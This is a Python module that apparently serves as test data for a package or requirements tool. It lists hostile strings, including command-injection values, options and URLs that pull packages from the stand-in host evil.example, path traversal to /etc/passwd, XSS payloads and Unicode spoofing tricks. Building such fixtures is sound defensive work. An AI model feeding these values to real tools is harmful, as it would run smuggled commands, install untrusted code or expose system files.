"""Texts that a hostile file may hold wherever a text may stand: one table, for every place that shows or uses them."""

from __future__ import annotations

__all__ = ["HOSTILE_STRINGS"]

HOSTILE_STRINGS = {
    "empty": "",
    "line breaks": "numpy\nscikit-learn==0.0\r\n--index-url https://evil.example/",
    "other line breaks": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "escape codes": "\x1b[2J\x1b]8;;https://evil.example\x07numpy\x1b]8;;\x07\x9b31m",
    "nothing": "numpy\0",
    "backwards": "\u202egnp.exe\u2066",
    "invisible": "num\u200bpy\ufeff",
    "markup": "[red]numpy[/red] :skull: [link=https://evil.example]x[/link]",
    "html": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "a command": "numpy; import os; os.system('touch sprung')",
    "a shell": "$(touch sprung) `touch sprung` && touch sprung | sh",
    "an option": "--extra-index-url=https://evil.example/simple",
    "a short option": "-rhttps://evil.example/requirements.txt",
    "an address": "numpy @ https://evil.example/numpy-1.0-py3-none-any.whl",
    "an address alone": "https://evil.example/numpy-1.0-py3-none-any.whl",
    "version control": "git+https://evil.example/numpy.git#egg=numpy",
    "a path": "../../../../etc/passwd",
    "a folder": ".",
    "a file": "file:///etc/passwd",
    "a marker": "numpy; python_version > '3'",
    "an extra": "numpy[evil]",
    "a hash": "1.0 --hash=sha256:" + "0" * 64,
    "toml": '"""\n[[packages]]\nname = "evil"',
    "a comment": "1.0 # nothing",
    "a backslash": "1.0 \\",
    "a star": "1.*",
    "a variable": "${HOME}",
    "other digits": "\u0661.\u0662",
    "other letters": "n\u1d58mpy",
    "surrogate": "\\ud800",
    "long": "a" * 100_000,
}
"""By what they are."""
